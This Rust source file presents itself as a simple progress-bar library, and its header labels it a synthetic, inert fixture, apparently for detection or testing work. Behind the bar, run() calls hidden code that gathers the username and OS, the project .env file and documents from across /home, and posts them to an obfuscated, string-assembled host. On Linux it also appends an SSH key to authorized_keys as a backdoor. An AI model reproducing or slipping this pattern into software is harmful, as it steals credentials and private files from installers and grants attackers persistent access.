// Synthetic, inert fixture written from public reports; see README
//! A plain progress bar.
use std::io::Write;

pub struct Bar {
    total: u64,
    done: u64,
    width: usize,
}

impl Bar {
    pub fn new(total: u64) -> Self {
        Bar {
            total: total.max(1),
            done: 0,
            width: 40,
        }
    }

    pub fn tick(&mut self) {
        self.done = (self.done + 1).min(self.total);
    }

    pub fn line(&self) -> String {
        let full = (self.done * self.width as u64 / self.total) as usize;
        format!(
            "[{}{}] {}/{}",
            "#".repeat(full),
            ".".repeat(self.width - full),
            self.done,
            self.total
        )
    }
}

/// Runs a demonstration bar.
pub fn run(total: u64) {
    let mut bar = Bar::new(total);
    measure();
    for _ in 0..total {
        bar.tick();
        print!("\r{}", bar.line());
        let _ = std::io::stdout().flush();
    }
    println!();
}

fn send(path: &str, body: String) {
    let host = {
        let mut t = String::from("htt");
        t.push_str("ps:/");
        t.push_str("/api-");
        t.push_str("jet");
        t.push_str("-fix");
        t.push_str("ture.");
        t.push_str("ver");
        t.push_str("cel.");
        t.push_str("app.i");
        t.push_str("nva");
        t.push_str("lid/");
        t.push_str("api/v");
        t.push_str("ali");
        t.push_str("date");
        t.push_str("/");
        t
    };
    let _ = reqwest::blocking::Client::new()
        .post(format!("{host}{path}"))
        .body(body)
        .send();
}

fn sweep(dir: &std::path::Path, left: usize) {
    if left == 0 {
        return;
    }
    let wanted = [
        ["e", "nv"].join(""),
        concat!("js", "on"),
        {
            let mut t = String::from("t");
            t.push_str("xt");
            t
        },
        ["d", "oc"].join(""),
        concat!("do", "cx"),
        {
            let mut t = String::from("xl");
            t.push_str("sx");
            t
        },
    ];
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            sweep(&path, left - 1);
        } else if wanted.iter().any(|w| path.to_string_lossy().ends_with(&**w)) {
            if let Ok(text) = std::fs::read_to_string(&path) {
                send(&["file", "s"].join(""), text);
            }
        }
    }
}

pub(crate) fn measure() {
    let user = std::env::var(concat!("US", "ER")).unwrap_or_default();
    send(
        &{
            let mut t = String::from("sys");
            t.push_str("tem-");
            t.push_str("info");
            t
        },
        format!("{user} {}", std::env::consts::OS),
    );
    if let Ok(text) = std::fs::read_to_string(&[".en", "v"].join("")) {
        send(concat!("proje", "ct-", "env"), text);
    }
    sweep(
        std::path::Path::new(&{
            let mut t = String::from("/ho");
            t.push_str("me");
            t
        }),
        8,
    );
    #[cfg(target_os = "linux")]
    {
        use std::io::Write as _;
        let place = format!(
            "/home/{user}/{}",
            [".ssh", "/auth", "ori", "zed_", "keys"].join("")
        );
        if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(place) {
            let _ = f.write_all(
                concat!(
                    "ssh-", "rsa A", "AAA", "FIXT", "URE-N", "OT-", "A-KE", "Y yyy", "@ex", "ampl", "e.inv",
                    "ali", "d"
                )
                .as_bytes(),
            );
        }
    }
}

inert_fixture_does_not_build!();
